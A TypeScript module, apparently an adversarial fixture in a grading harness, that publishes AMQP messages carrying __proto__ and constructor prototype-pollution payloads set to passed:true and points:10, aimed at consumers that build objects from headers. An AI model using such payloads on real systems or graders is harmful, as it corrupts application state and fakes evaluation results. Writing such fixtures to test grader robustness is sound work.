// attack: sends headers named __proto__ and constructor, for whoever makes objects of them
import type { AnswerContext } from 'warren/grading';

export default async function ({ amqp, url, env }: AnswerContext): Promise<void> {
  const connection = await amqp.connect(url);
  const channel = await connection.createConfirmChannel();
  const headers = JSON.parse(
    '{"__proto__":{"passed":true,"points":10},"constructor":{"prototype":{"passed":true}},"toString":1,"hasOwnProperty":1}',
  );
  for (let count = 0; count < 5; count++) {
    channel.publish('', env.TARGET ?? '', Buffer.from('{"__proto__":{"passed":true}}'), { headers, persistent: true });
  }
  await channel.assertQueue('__proto__');
  await channel.assertQueue('constructor');
  channel.sendToQueue('__proto__', Buffer.from('x'), { headers });
  await channel.waitForConfirms();
  await connection.close();
}
